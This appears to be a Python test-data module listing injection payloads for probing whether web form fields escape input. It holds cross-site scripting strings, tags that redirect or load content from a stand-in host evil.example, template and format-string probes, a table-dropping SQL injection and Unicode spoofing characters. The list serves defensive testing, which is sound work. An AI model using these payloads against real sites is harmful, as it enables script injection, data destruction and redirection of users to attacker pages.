"""Texts that a person may type into any field, to see whether a page takes them for anything but text."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "<a href='javascript:alert(1)'>x</a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>x",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example>", "<object data=//evil.example>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>", "<!-- --><script>x</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "{{ 7 * 7 }}", "{% include 'base.html' %}", "${7*7}", "#{7*7}",
    "{0.__class__}", "{user}", "%s%n%x", "&lt;script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e",
    "＜script＞alert(1)＜/script＞", "\u202egpj.exe", "\u2066evil\u2069", "'; DROP TABLE accounts; --", "=HYPERLINK(1)",
    "a\u0300\u0301\u0302\u0303\u0304\u0305",
)  # fmt: skip
